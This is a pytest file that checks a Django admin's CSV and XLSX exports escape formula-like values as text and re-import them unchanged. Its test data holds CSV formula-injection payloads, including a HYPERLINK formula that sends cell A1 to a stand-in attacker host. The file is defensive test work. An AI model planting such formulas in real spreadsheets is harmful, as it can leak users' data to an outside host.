"""The admin's export keeps texts that look like formulas as text, in CSV and in XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from measures.models import Measure
from tests.admin.test_spreadsheet_import import (  # noqa: F401 (fixtures)
    CSV_FORMAT,
    EXPORT_URL,
    XLSX_FORMAT,
    catalogue,
    confirm,
    csv_file,
    editor,
    editor_client,
    own_partner,
    preview,
)
from tests.factories import MeasureFactory, RegionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = {
    "title": HYPERLINK,
    "title_local": "+1+1",
    "summary": "-2+3 regions joined",
    "main_institution": "@SUM(A1:A9)",
    "funding": "\t=1+1",
}


@pytest.fixture
def formula_measure(own_partner):  # noqa: F811
    return MeasureFactory(
        region=RegionFactory(partner=own_partner),
        partner=own_partner,
        status=Measure.Status.DRAFT,
        published_at=None,
        **FORMULAS,
    )


def test_the_csv_export_puts_an_apostrophe_before_a_formula(
    editor_client,  # noqa: F811
    formula_measure,
):
    exported = editor_client.post(EXPORT_URL, {"format": CSV_FORMAT, "resource": "0"})

    (row,) = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    for column, value in FORMULAS.items():
        assert row[column] == f"'{value}"


def test_the_xlsx_export_writes_a_formula_as_a_text_cell(
    editor_client,  # noqa: F811
    formula_measure,
):
    exported = editor_client.post(EXPORT_URL, {"format": XLSX_FORMAT, "resource": "0"})

    sheet = load_workbook(io.BytesIO(exported.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, value in FORMULAS.items():
        cell = cells[column]
        assert cell.data_type == "s"
        assert isinstance(cell.value, str)
        assert not cell.value.startswith("=")
        assert cell.value == f"'{value}"


def test_a_sheet_with_formulas_comes_back_as_it_went_out(
    editor_client,  # noqa: F811
    catalogue,  # noqa: F811
    own_partner,  # noqa: F811
):
    measure = MeasureFactory(
        region=RegionFactory(partner=own_partner),
        partner=own_partner,
        status=Measure.Status.DRAFT,
        published_at=None,
        title=HYPERLINK,
        summary="-2+3 regions joined",
    )
    exported = editor_client.post(EXPORT_URL, {"format": CSV_FORMAT, "resource": "0"})
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    rows[0]["region"] = "paijat-hame"
    rows[0]["themes"] = "digital-skills"

    confirm(editor_client, preview(editor_client, own_partner, csv_file(rows)))

    measure.refresh_from_db()
    assert measure.title == HYPERLINK
    assert measure.summary == "-2+3 regions joined"
    assert measure.region.slug == "paijat-hame"
